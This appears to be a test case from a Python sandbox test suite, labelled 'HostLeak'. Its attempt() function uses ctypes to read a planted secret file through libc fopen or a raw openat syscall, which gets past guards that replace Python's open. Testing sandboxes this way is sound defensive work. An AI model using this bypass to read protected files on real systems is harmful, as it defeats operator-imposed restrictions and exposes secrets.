# title: Read a file through the C library
# tries: Opens a planted file by fopen and by a bare system call. Guards that replace Python's open do not see either.
# impact: HostLeak
# reference: CVE-2026-53710
# proof: secret
# host: run
# advice: Do not count on replaced builtins; let the kernel keep the files away.

OPENAT = {"x86_64": 257, "aarch64": 56}


def attempt(host):
    import ctypes
    import os
    import platform

    libc = ctypes.CDLL(None, use_errno=True)
    libc.fopen.restype = ctypes.c_void_p
    text = ctypes.create_string_buffer(1000)
    file = libc.fopen(host["secret_file"].encode(), b"r")
    if file:
        libc.fread(text, 1, 999, ctypes.c_void_p(file))
        libc.fclose(ctypes.c_void_p(file))
        return text.value.decode()
    descriptor = libc.syscall(OPENAT[platform.machine()], -100, host["secret_file"].encode(), 0, 0)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    libc.read(descriptor, text, 999)
    libc.close(descriptor)
    return text.value.decode()
